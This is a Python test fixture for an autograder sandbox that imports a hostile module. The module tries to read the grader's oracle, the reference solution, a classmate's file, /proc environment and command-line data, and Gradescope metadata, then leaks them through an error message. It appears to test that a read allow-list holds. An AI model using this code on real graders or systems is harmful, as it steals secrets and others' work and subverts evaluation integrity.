# Hostile twist, appended to the reference tools.py at test time:
# at import the module reads what a submission must never see: the repository's .git,
# the grader's oracle, the reference solution, a classmate's file beside it in a class
# folder, the grader's own command line (where --seed is), and in the Gradescope bundle its
# settings (the seed) and Gradescope's submission metadata. Whatever it manages to
# read it echoes into its feedback, through a failing check_args. Where the sandbox's
# read allow-list holds, every read is refused: nothing is lost and nothing leaks.
import os
from pathlib import Path

import agtool

_repository = Path(agtool.__file__).resolve().parents[1]
_here = Path(__file__).resolve().parent
_targets = [_repository / ".git" / "HEAD", _repository / "grader" / "instructor" / "oracle.py",
            _repository / "settings.json", _repository.parent / "submission_metadata.json",
            _repository / "agtool" / "tools.py", _here.parent / "alice" / "tools.py",
            Path("/proc/self/environ")]
try:  # the grader's command line: its parent's (the zygote's) parent
    with open(f"/proc/{os.getppid()}/status") as _status:
        _grader = next(line for line in _status if line.startswith("PPid:")).split()[1]
    _targets.append(Path(f"/proc/{_grader}/cmdline"))
except (OSError, StopIteration):
    pass
# What would be worth stealing: the seed, code, a git ref, a classmate's or Gradescope's data.
_SECRETS = ("seed", "def ", "ref: refs", "alice", "@")
_leaked = []
for _target in _targets:
    try:
        _text = _target.read_text(errors="replace").replace("\0", " ")
    except OSError:
        continue
    if any(secret in _text for secret in _SECRETS):
        _leaked.append(f"{_target}: {_text[:200]}")
try:
    _leaked.append("listing: " + " ".join(os.listdir(_here.parent)))
except OSError:
    pass

if _leaked:
    def check_args(name, args):
        raise RuntimeError(" | ".join(_leaked))
